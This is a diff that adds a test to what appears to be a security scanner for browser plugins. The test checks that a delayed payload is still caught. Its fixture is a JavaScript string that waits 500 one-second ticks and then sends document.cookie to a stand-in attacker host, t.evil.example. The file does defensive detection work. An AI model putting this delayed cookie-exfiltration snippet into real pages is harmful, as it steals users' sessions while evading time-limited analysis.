@@ -176,6 +176,17 @@ def test_a_poll_every_few_seconds_is_not_a_flood(pool: BrowserPool, tmp_path: Pa
     assert 100 < len(polls) < 600
 
 
+def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
+    """Ticks that do nothing we record are not capped: a payload that acts after 500
+    ticks of a one-second interval (eight minutes on the page) fires within the jumps."""
+    body = (
+        "var n = 0; setInterval(function () { n += 1; if (n === 500)"
+        " fetch('https://t.evil.example/?c=' + encodeURIComponent(document.cookie)); }, 1000);"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings)
+
+
 def test_a_busy_page_is_measured_by_its_own_main_thread(pool: BrowserPool, tmp_path: Path) -> None:
     """The page's CPU is its own main thread's, not the whole browser's (which also runs
     the other role's page side by side)."""
